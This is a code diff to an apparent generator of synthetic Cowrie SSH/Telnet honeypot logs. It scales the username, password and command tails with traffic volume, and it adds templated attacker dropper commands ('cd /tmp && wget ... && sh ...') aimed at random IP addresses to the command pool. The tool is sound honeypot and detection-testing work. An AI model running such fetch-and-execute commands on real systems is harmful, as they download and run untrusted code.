@@ -8,7 +8,8 @@ Shape (from the captures in ../shared/data and published honeypot studies):
 * sessions of four kinds: scanners (connect, closed), banner grabbers (plus client version and
   key exchange), brute-forcers (one to eight failed logins, sometimes a success) and
   interactive bots (login success, session params, commands, downloads, log closed);
-* usernames, passwords and commands from realistic lists with a heavy head and a long tail;
+* usernames, passwords and commands from realistic lists with a heavy head and a long tail
+  that grows with the number of sessions (as on real sensors);
 * downloads with a URL (wget/curl) and without one (uploaded ``authorized_keys`` files);
 * SSH and Telnet (~15 %); ``cowrie.session.closed`` durations as a float, a numeric string
   (Cowrie 2.x) or ``duration_ms`` (newer Cowrie);
@@ -189,11 +190,20 @@ class _Shape:
                 ips.append(f"{a}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}")
         self.ips = _Picker.zipf(ips, 1.05)
         self.sensors = _Picker.weighted(SENSOR_WEIGHTS)
-        tail_users = [f"user{n}" for n in range(2000)]
-        tail_passwords = [f"pass{n:04d}!" for n in range(20000)]
+        # The long tails grow with the traffic, as they do on real sensors: more attackers
+        # bring more one-off usernames, passwords and dropper commands.
+        tail_users = [f"user{n}" for n in range(max(2000, sessions_hint // 500))]
+        tail_passwords = [f"pass{n:04d}!" for n in range(max(20000, sessions_hint // 50))]
+        tail_commands = [
+            f"cd /tmp && wget -q http://{a}.{b}.0.9/{n:x}.sh && sh {n:x}.sh"
+            for n, (a, b) in enumerate(
+                (rng.randrange(1, 224), rng.randrange(256))
+                for _ in range(max(100, sessions_hint // 200))
+            )
+        ]
         self.usernames = _Picker.zipf([*USERNAMES, *tail_users], 1.3)
         self.passwords = _Picker.zipf([*PASSWORDS, *tail_passwords], 1.2)
-        self.commands = _Picker.zipf(COMMANDS, 0.9)
+        self.commands = _Picker.zipf([*COMMANDS, *tail_commands], 0.9)
         self.versions = _Picker.weighted(CLIENT_VERSIONS)
         self.shasums = _Picker.zipf([f"{rng.getrandbits(256):064x}" for _ in range(600)], 1.1)
         self.sensor_uuid = {
